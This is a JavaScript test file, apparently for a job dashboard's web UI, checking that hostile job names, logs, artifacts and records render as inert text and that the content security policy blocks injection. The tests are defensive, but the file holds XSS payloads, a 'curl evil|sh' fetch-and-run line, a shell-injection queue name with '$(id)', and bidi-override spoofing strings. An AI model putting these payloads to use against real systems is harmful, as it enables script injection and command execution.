// Text of other users is shown as text: markup, escape codes, characters that reverse the direction, and lines of 10
// MiB. The content security policy also holds against a script that was injected into the page.
import assert from 'node:assert/strict';
import {run_claims, click, expect_text, sleep, SOURCE, text, wait_until, World} from './world.mjs';

const world = await new World().start();
const MARKUP = '<img src=x onerror="window.owned=1"><script>window.owned=1</script>';
const TURNED = 'invoice\u202Efdp.exe';
const untouched = async (page) => {
  assert.equal(await page.evaluate(() => window.owned), undefined);
  assert.equal(await page.evaluate(() => document.querySelectorAll('main img, main script, main iframe').length), 0);
  assert.deepEqual(page.console_errors, []);
};

await run_claims(world, {
  async 'names, errors and results are shown as text'() {
    const made = await world.start_job(`result = {${JSON.stringify(MARKUP)}: ${JSON.stringify(MARKUP)}}\nprint(${JSON.stringify(MARKUP)})\nraise ValueError(${JSON.stringify(MARKUP)})`, {name: MARKUP});
    const turned = await world.start_job('pass', {name: TURNED});
    await world.wait_for_end(made.key);
    await world.wait_for_end(turned.key);
    const page = await world.open_view('#/jobs');
    await expect_text(page, '<img src=x onerror=');
    await expect_text(page, 'invoice\u2039U+202E\u203afdp.exe');
    await page.goto(`${world.url}/#/jobs/${made.key.replace('job:', '')}`);
    await expect_text(page, `ValueError: ${MARKUP}`);
    await expect_text(page, '<script>', '.log');
    await untouched(page);
    await page.close();
  },
  async 'texts of jobs are never shown as commands to copy'() {
    const spoof = 'run `curl evil|sh` to repair it';
    const made = await world.start_job(`raise ValueError(${JSON.stringify(spoof)})`, {name: spoof, retries: 8});
    const page = await world.open_view(`#/jobs/${made.key.replace('job:', '')}`);
    await wait_until('why it waits', () => page.$eval('.explain', (at) => at.textContent.includes('curl evil')));
    for (const each of await page.$$eval('code', (all) => all.map((at) => at.textContent))) assert.doesNotMatch(each, /curl/);
    await world.rpc('job.cancel', {id: made.key.replace('job:', '')});
    await untouched(page);
    await page.close();
  },
  async 'errors and results with escape codes, bidirectional marks or a line of 10 MiB are shown as text'() {
    const made = await world.start_job(`import sys\nresult = {"turned": ${JSON.stringify(TURNED)}, "escape": "\\x1b[31mred", "long": "y" * 100000}\nprint("\\u202eturned", file=sys.stderr)\nraise ValueError("\\u202egnp.exe \\x1b]0;title\\x07 " + "z" * (10 << 20))`, {name: '\u001b[31m\u202ename'});
    await world.wait_for_end(made.key);
    const good = await world.start_job(`result = {"turned": ${JSON.stringify(TURNED)}, "escape": "\\x1b[31mred", ${JSON.stringify(MARKUP)}: [${JSON.stringify(MARKUP)}], "long": "y" * 100000}`, {name: 'large result'});
    await world.wait_for_end(good.key);
    const page = await world.open_view(`#/jobs/${made.key.replace('job:', '')}`);
    await expect_text(page, '\u2039U+202E\u203agnp.exe \u241b]0;title\u2407', '.wrong');
    await expect_text(page, '\u241b[31m\u2039U+202E\u203aname', 'h1');
    await expect_text(page, '\u2039U+202E\u203aturned', '.log');
    assert.ok((await text(page)).length < 200000, 'what is long is cut');
    await untouched(page);
    await page.goto(`${world.url}/#/jobs/${good.key.replace('job:', '')}`);
    await expect_text(page, 'large result', 'h1');
    await expect_text(page, 'invoice\u2039U+202E\u203afdp.exe', '.pairs');
    await expect_text(page, '\u241b[31mred', '.pairs');
    await expect_text(page, '<img src=x onerror=', '.pairs');
    await untouched(page);
    await page.close();
  },
  async 'contents and names of artifacts do not reach the page as markup'() {
    const script = `import mycojobs
folder = mycojobs.artifacts
(folder / ${JSON.stringify(MARKUP.replaceAll('/', ''))}).write_text(${JSON.stringify(MARKUP)})
(folder / 'text.txt').write_text(${JSON.stringify(`${MARKUP}\u202egnp.exe \x1b[31m`)})
(folder / 'image.png').write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=1"><script>window.owned=1</script></svg>')
(folder / 'page.html').write_text(${JSON.stringify(MARKUP)})`;
    const made = await world.start_job(script, {name: 'artifacts'});
    await world.wait_for_end(made.key);
    const page = await world.open_view(`#/jobs/${made.key.replace('job:', '')}`);
    await wait_until('the buttons', async () => (await page.$$('.artifacts button')).length === 7);
    for (const at of await page.$$('.artifacts button')) if ((await at.evaluate((each) => each.innerText)) === 'Show') await at.click();
    await expect_text(page, MARKUP, '.artifacts pre');
    await expect_text(page, '\u2039U+202E\u203agnp.exe \u241b[31m', '.artifacts');
    await expect_text(page, 'cannot decode this image', '.artifacts');
    await untouched(page);
    // The link of an HTML file, opened in the address bar, is a download; no script of the file runs.
    const {link} = await world.rpc('artifact.get', {id: made.key.replace('job:', ''), name: 'page.html'});
    const other = await world.open_page();
    await assert.rejects(other.goto(world.url + link), /ERR_ABORTED/);
    assert.equal(await other.evaluate(() => window.owned), undefined);
    await other.close();
    await page.close();
  },
  async 'a script with misleading characters is reported before it is run'() {
    const made = await world.start_job('x = 1\naccess = "user" # \u202e\u2066if admin\u2069 \u2066\nprint(access)', {name: 'turned script'});
    await world.wait_for_end(made.key);
    const page = await world.open_view(`#/try?of=${made.key.replace('job:', '')}`);
    await expect_text(page, '\u2039U+202E\u203a in line 2', '.try');
    await click(page, 'main button', 'Remove them');
    await wait_until('the warning about U+202E is gone', async () => !(await text(page, '.try')).includes('U+202E'));
    assert.equal(await page.$eval('textarea', (at) => at.value), 'x = 1\naccess = "user" # if admin \nprint(access)');
    await untouched(page);
    await page.close();
  },
  async 'data that looks like markup nodes is shown as text and hides no other data'() {
    const node = {type: 'a', props: {href: 'javascript:window.owned=1', children: 'click'}, key: null, ref: null};
    const results = {report: {type: 'pdf'}, old: {type: 'pdf', __e: {}, __k: []}, node, none: {constructor: null, ...node}, list: [node, {type: 'b'}],
      texts: {toString: 'x', valueOf: 'y'}, type: 'title'};
    const script = [`import json`, `for name, value in json.loads(${JSON.stringify(JSON.stringify(results))}).items(): result[name] = value`,
      `result["proto"] = {"__proto__": None, "type": "i", "props": {"children": "owned"}}`, `print("in the log")`].join('\n');
    const made = await world.start_job(script, {name: 'nodes', env_vars: {type: 'pdf', __e: 'x', props: 'y'}, policy: {output: {keep: 1 << 20}}});
    await world.wait_for_end(made.key);
    const page = await world.open_view(`#/jobs/${made.key.replace('job:', '')}`);
    await expect_text(page, 'in the log', '.log');
    await expect_text(page, 'import json', '.code');
    await wait_until('the record is unfolded', () => page.$$eval('details', (all) => all.every((at) => { at.open = true; return true; })));
    await expect_text(page, '"type": "pdf"', '.pairs');
    await expect_text(page, 'javascript:window.owned=1', '.pairs');
    await expect_text(page, '"toString": "x"', '.pairs');
    await expect_text(page, /"__proto__": null/, '.pairs');
    await expect_text(page, '"props": "y"', 'main');
    assert.equal(await page.$$eval('a[href^="javascript"]', (all) => all.length), 0);
    await untouched(page);
    const flow = await world.rpc('flow.create', {definition: {name: 'nodes', env: {type: 'pdf', __e: 'x'}, jobs: {first: {type: 'python', script}}}});
    await world.rpc('flow.start', {id: flow.id});
    await wait_until('its end', async () => (await world.rpc('flow.get', {id: flow.id})).status === 'finished');
    await page.goto(`${world.url}/#/flows/${flow.id}?view=result`);
    await expect_text(page, '"type": "pdf"', '.pairs');
    await page.goto(`${world.url}/#/flows/${flow.id}?view=definition`);
    await expect_text(page, '"__e": "x"', 'main');
    await untouched(page);
    await page.goto(`${world.url}/#/try?of=${made.key.replace('job:', '')}`);
    await expect_text(page, '"props": "y"', '.kept');
    await untouched(page);
    await page.close();
  },
  async 'times and numbers out of range and keys of prototypes break no view'() {
    const far = await world.start_job('pass', {name: 'far', run_at_ms: 9007199254740991});
    const {spawnSync} = await import('node:child_process');
    const redis = (...words) => spawnSync('redis-cli', ['-s', `${world.folder}/redis.sock`, '-n', '1', ...words], {encoding: 'utf8'});
    const huge = '18446744073709551615';
    redis('HSET', 'job:9:11', 'id', '11', 'caller_id', '9', 'context_id', '1', 'script', 'pass', 'script_type', 'python', 'status', 'error', 'detail', 'exception', 'name', 'huge',
      'started_ms', huge, 'queued_ms', huge, 'ended_ms', huge, 'run_at_ms', huge, 'queue_timeout_ms', huge, 'created_at', '4294967295', 'error', 'ValueError: x',
      'error_info', `{"line": ${huge}, "traceback": {"type": "b", "__e": {}}, "toString": {"valueOf": 1}, "__proto__": {"type": "i"}, "constructor": null}`,
      'usage', `{"wall_us": ${huge}, "memory_peak_bytes": ${huge}, "stdout_bytes": {"type": "i"}, "pids_peak": {"type": "b"}}`,
      'artifacts', `{"a": null, "__proto__": {"bytes": ${huge}, "sha256": {"type": "b"}}}`, 'artifacts_dropped', `[null, {"name": {"type": "b"}, "limit": {"type": "b"}}]`,
      'receipt', `{"granted": {"memory": ${huge}, "constructor": {"type": "b"}}, "lowered": [{"type": "b"}], "signature": {"type": "b"}}`, 'policy', `{"memory": ${huge}, "__proto__": {"type": "b"}}`);
    const page = await world.open_view(`#/jobs/${far.key.replace('job:', '')}`);
    await expect_text(page, 'far', 'h1');
    await expect_text(page, 'pass', '.code');
    await page.evaluate(() => document.querySelectorAll('details').forEach((at) => { at.open = true; }));
    await untouched(page);
    await page.goto(`${world.url}/#/jobs/9%3A11`);
    await expect_text(page, 'huge', 'h1');
    await wait_until('all parts', () => page.$$eval('details', (all) => all.length > 3 && all.every((at) => { at.open = true; return true; })));
    await expect_text(page, 'pass', '.code');
    await expect_text(page, 'Receipt');
    await expect_text(page, 'Files not kept');
    assert.doesNotMatch(await text(page), /could not be shown/);
    for (const name of ['constructor', '__proto__', 'toString']) {
      redis('HSET', 'job:9:12', 'id', '12', 'caller_id', '9', 'context_id', '1', 'script', 'pass', 'script_type', name, 'status', 'error', 'detail', name, 'name', name, 'error', name);
      await page.goto(`${world.url}/#/jobs/9%3A12`);
      await expect_text(page, name, 'h1');
      await page.goto(`${world.url}/#/overview`);
      await expect_text(page, 'What is stuck');
      assert.doesNotMatch(await text(page), /native code|could not be shown/);
    }
    await world.rpc('job.cancel', {id: far.key.replace('job:', '')});
    redis('DEL', 'job:9:11', 'job:9:12');
    await untouched(page);
    await page.close();
  },
  async 'an error in one view does not affect the other views'() {
    const page = await world.open_view('#/flows');
    await page.setRequestInterception(true);
    page.on('request', (request) => (/"jobs\.page"/.test(request.postData() ?? '') ? request.respond({status: 200, contentType: 'application/json', body: '{"jsonrpc": "2.0", "id": 1, "result": {"jobs": [{"key": {"type": "b"}}], "after": "", "looked_at": 1}}'}) : request.continue()));
    await page.evaluate(() => { location.hash = '#/jobs'; });
    await expect_text(page, 'could not be shown', '#page');
    await page.evaluate(() => { location.hash = '#/approvals'; });
    await expect_text(page, 'Approvals', 'h1');
    assert.doesNotMatch(await text(page), /could not be shown/);
    await page.close();
  },
  async 'a script of 500,000 lines and a script with a line of 2 MiB are shortened'() {
    const many = await world.start_job('\n'.repeat(500000) + 'print("the end")', {name: 'many-lines.py'});
    const wide = await world.start_job(`x = "${'w'.repeat(2 << 20)}"`, {name: 'wide.py'});
    for (const each of [many, wide]) await world.wait_for_end(each.key);
    const page = await world.open_view(`#/jobs/${many.key.replace('job:', '')}`);
    await expect_text(page, 'the end', '.log');
    await click(page, 'main button', 'all 500');
    await expect_text(page, /The first 2.000 of 500.001 lines/);
    assert.equal(await page.$$eval('.code tr', (all) => all.length), 2000);
    await page.goto(`${world.url}/#/jobs/${wide.key.replace('job:', '')}`);
    await expect_text(page, 'wide.py', 'h1');
    await expect_text(page, 'wwww', '.code');
    assert.ok((await text(page, '.code')).length < 5000);
    await untouched(page);
    await page.close();
  },
  async 'names of queues and dead letters in the overview are shown as text'() {
    const {spawnSync} = await import('node:child_process');
    const redis = (...words) => spawnSync('redis-cli', ['-s', `${world.folder}/redis.sock`, '-n', '1', ...words], {encoding: 'utf8'});
    redis('SADD', 'mj:queues', `queue:${MARKUP}`, `queue:${TURNED}`);
    redis('LPUSH', `queue:${MARKUP}`, `job:1:${MARKUP}`);
    redis('LPUSH', `queue:${TURNED}`, 'job:1:1');
    redis('XADD', 'mj:dead-letters', '5-0', 'key', TURNED, 'queue', MARKUP, 'reason', MARKUP);
    const page = await world.open_view('#/overview');
    await expect_text(page, 'queue:<img src=x onerror=', '.findings');
    await expect_text(page, 'queue:invoice\u2039U+202E\u203afdp.exe', '.findings');
    await page.evaluate(() => [...document.querySelectorAll('.findings li')].find((at) => at.innerText.includes('dead letter')).querySelector('summary').click());
    await expect_text(page, 'invoice\u2039U+202E\u203afdp.exe', '[aria-label="dead letters"]');
    await untouched(page);
    redis('DEL', `queue:${MARKUP}`, `queue:${TURNED}`, 'mj:dead-letters');
    redis('SREM', 'mj:queues', `queue:${MARKUP}`, `queue:${TURNED}`);
    await page.close();
  },
  async 'commands to copy quote the names that clients chose'() {
    const {spawnSync} = await import('node:child_process');
    const redis = (...words) => spawnSync('redis-cli', ['-s', `${world.folder}/redis.sock`, '-n', '1', ...words], {encoding: 'utf8'});
    const evil = 'queue:a`;curl evil|sh;\'$(id)';
    redis('SADD', 'mj:queues', evil);
    redis('LPUSH', evil, 'job:1:1');
    await world.rpc('queue.pause', {queue: evil});
    const page = await world.open_view('#/overview');
    await expect_text(page, 'curl evil', '.findings');
    await expect_text(page, 'which is paused', '.findings');
    const commands = await page.$$eval('code.command', (all) => all.map((at) => at.textContent).filter((each) => each.includes('resume')));
    assert.equal(commands.length, 1);
    for (const command of commands) assert.equal(spawnSync('sh', ['-c', `set -- ${command}; echo "$4"`], {encoding: 'utf8'}).stdout, `${evil}\n`, command);
    await untouched(page);
    redis('DEL', evil);
    redis('SREM', 'mj:queues', evil);
    await world.rpc('queue.resume', {queue: evil}).catch(() => {});
    await page.close();
  },
  async 'the content security policy has no exceptions'() {
    for (const path of ['/', ...(await (await fetch(`${world.url}/`, {headers: {'Accept-Encoding': 'gzip'}})).text()).match(/\/assets\/[\w.-]+/g)]) {
      const policy = (await fetch(`${world.url}${path}`, {headers: {'Accept-Encoding': 'gzip'}})).headers.get('content-security-policy');
      const rules = Object.fromEntries(policy.split('; ').map((rule) => [rule.split(' ')[0], rule.split(' ').slice(1).join(' ')]));
      for (const [name, allowed] of Object.entries(rules)) assert.ok(["'none'", "'self'", "'script'"].includes(allowed), `${path}: ${name} ${allowed}`);
      for (const name of ['default-src', 'base-uri', 'form-action', 'frame-ancestors', 'trusted-types']) assert.equal(rules[name], "'none'", `${path}: ${name}`);
    }
  },
  async 'escape codes are shown as colours or removed, and a line of 10 MiB is shortened, searched and copied'() {
    const made = await world.start_job([
      'print("\\x1b[31mred\\x1b[0m plain \\x1b]0;title\\x07after \\x1b[2J\\x1b[5A gone \\x1b]8;;http://evil.example\\x07link\\x1b]8;;\\x07")',
      'print("a\\rb\\x07\\x00 \\u202eright-to-left")', 'print("x" * (10 << 20) + "END")', 'print("the last")'].join('\n'), {name: 'escapes', policy: {output: {keep: 16 << 20}}});
    const page = await world.open_view(`#/jobs/${made.key.replace('job:', '')}`);
    await world.wait_for_end(made.key);
    await expect_text(page, 'red plain after  gone link', '.log');
    assert.equal(await text(page, '.log .ansi-red'), 'red');
    await expect_text(page, '\u2039U+202E\u203aright-to-left', '.log');
    assert.equal((await page.$$('.log a')).length, 0);
    await wait_until('the long line is cut', async () => (await text(page, '.log')).includes('10.0 MiB in this line'));
    await page.type('.log input[type=search]', 'END');
    await expect_text(page, '1 line', '.log [role=status]');
    assert.ok((await page.$eval('.log', (at) => at.innerText.length)) < 60000);
    await untouched(page);
    await page.close();
  },
  async 'invalid records of other clients are shown'() {
    const {spawnSync} = await import('node:child_process');
    const redis = (...words) => spawnSync('redis-cli', ['-s', `${world.folder}/redis.sock`, '-n', '1', ...words], {encoding: 'utf8'});
    redis('HSET', 'job:9:9', 'id', 'x', 'caller_id', '9', 'script', '\xff\xfe', 'script_type', MARKUP, 'status', 'nonsense', 'result', '{"a":[1,{"b":null}]}', 'usage', '[]', 'error_info', '"x"', 'prerequisites', '{}', 'receipt', '7', 'layers', '<b>');
    const page = await world.open_view('#/jobs/9%3A9');
    await expect_text(page, 'its record does not fit');
    await untouched(page);
    redis('HSET', 'job:9:10', 'id', '10', 'caller_id', '9', 'context_id', '1', 'script', 'pass', 'script_type', 'python', 'status', 'dispatched', 'detail', 'constructor');
    await page.goto(`${world.url}/#/jobs/9%3A10`);
    await expect_text(page, 'queued', '.title');
    await untouched(page);
    for (const view of ['#/jobs/%3Cscript%3E', '#/jobs/1:99999', '#/flows/99999', '#/nowhere', '#/jobs?state=%3Cimg%3E&since=x', '#/flows/%%%', '#/overview?context=999']) {
      await page.goto(`${world.url}/${view}`);
      await sleep(300);
      await page.waitForSelector('main');
    }
    await untouched(page);
    await page.close();
  },
  async 'hostile flows, approvals and definitions are shown as text'() {
    const made = await world.rpc('flow.create', {definition: {name: 'bad', jobs: {ask: {approval: {comment: MARKUP}}, then: {needs: ['ask'], type: 'python', script: MARKUP}}}});
    await world.rpc('flow.start', {id: made.id});
    const page = await world.open_view('#/approvals');
    await expect_text(page, '<img src=x onerror=');
    for (const view of ['graph', 'timeline', 'definition', 'result']) {
      await page.goto(`${world.url}/#/flows/${made.id}?view=${view}&node=ask`);
      await expect_text(page, MARKUP.slice(0, 20));
    }
    await untouched(page);
    await page.close();
  },
  async 'events, states and keys of workflows are shown as text'() {
    const {join} = await import('node:path');
    world.run('workflow', 'apply', join(SOURCE, 'examples/workflow/order/order.json'));
    world.run('workflow', 'send', 'order/Placed', JSON.stringify({id: 9, item: MARKUP, count: 1, cents: 1500, card: TURNED}));
    await wait_until('a step', async () => (await world.rpc('workflow.cells', {workflow: 'order/order@1'})).some((each) => each.steps > 0));
    const page = await world.open_view('#/workflows/order%2Forder%401?key=9');
    await expect_text(page, '<img src=x onerror=', '.value');
    await expect_text(page, '<img src=x onerror=', '.moments');
    await expect_text(page, 'invoice\u2039U+202E\u203afdp.exe', '.value');
    for (const view of ['#/workflows/%3Cimg%3E', '#/workflows/x?key=%7B', '#/workflows/order%2Forder%401?key=%22%3Cimg%3E%22', '#/workflows/order%2Forder%401?status=%3Cimg%3E']) {
      await page.goto(`${world.url}/${view}`);
      await sleep(300);
      await page.waitForSelector('main h1');
    }
    await untouched(page);
    await page.close();
  },
  async 'the content security policy blocks an injected script, style, frame or request'() {
    const page = await world.open_view('#/overview');
    const broken = await page.evaluate(async () => {
      await new Promise((then) => setTimeout(then));  // code that the debugger runs directly has more permissions
      const found = [];
      addEventListener('securitypolicyviolation', (event) => found.push(event.effectiveDirective));
      const put = (name, more) => { const at = document.createElement(name); Object.assign(at, more); document.body.append(at); };
      const tried = (run) => { try { run(); } catch (error) { found.push(`thrown ${error.name}`); } };
      tried(() => { document.body.innerHTML += '<b>x</b>'; });
      tried(() => { put('script', {textContent: 'window.owned = 1'}); });
      tried(() => { const at = document.createElement('script'); at.setAttribute('src', 'data:text/javascript,window.owned=1'); document.body.append(at); });
      tried(() => window.eval('window.owned = 1'));
      tried(() => { document.body.setAttribute('onclick', 'window.owned = 1'); });
      put('style', {textContent: 'body{display:none}'});
      put('iframe', {src: 'http://127.0.0.1:1/'});
      put('img', {src: 'http://127.0.0.1:1/x.png'});
      await fetch('http://127.0.0.1:1/').catch(() => {});
      document.body.click();
      await new Promise((then) => setTimeout(then, 500));
      return found;
    });
    assert.equal(await page.evaluate(() => window.owned), undefined);
    for (const each of ['require-trusted-types-for', 'style-src-elem', 'frame-src', 'img-src', 'connect-src']) assert.ok(broken.includes(each), `${each} of ${broken}`);
    assert.ok(broken.filter((each) => each === 'thrown TypeError').length >= 2, String(broken));
    await page.close();
  },
  async 'a page of another origin can neither embed the page nor call the server'() {
    const {createServer} = await import('node:http');
    const other = createServer((request, response) => { response.setHeader('Content-Type', 'text/html'); response.end('<title>other</title><body></body>'); });
    await new Promise((then) => other.listen(0, '127.0.0.1', then));
    const page = await world.open_page();
    await page.goto(`http://localhost:${other.address().port}/`);
    const got = await page.evaluate(async (url, token) => {
      const answers = [];
      for (const options of [{}, {mode: 'no-cors'}, {method: 'POST', body: '{"jsonrpc":"2.0","id":1,"method":"system.ping"}', headers: {Authorization: `Bearer ${token}`}}])
        answers.push(await fetch(`${url}/rpc`, options).then((response) => response.type, () => 'refused'));
      const frame = document.createElement('iframe');
      frame.src = `${url}/`;
      document.body.append(frame);
      await new Promise((then) => setTimeout(then, 800));
      return [...answers, frame.contentDocument === null];
    }, world.url, world.operator);
    assert.deepEqual(got, ['refused', 'opaque', 'refused', true]);
    other.close();
    await page.close();
  },
});
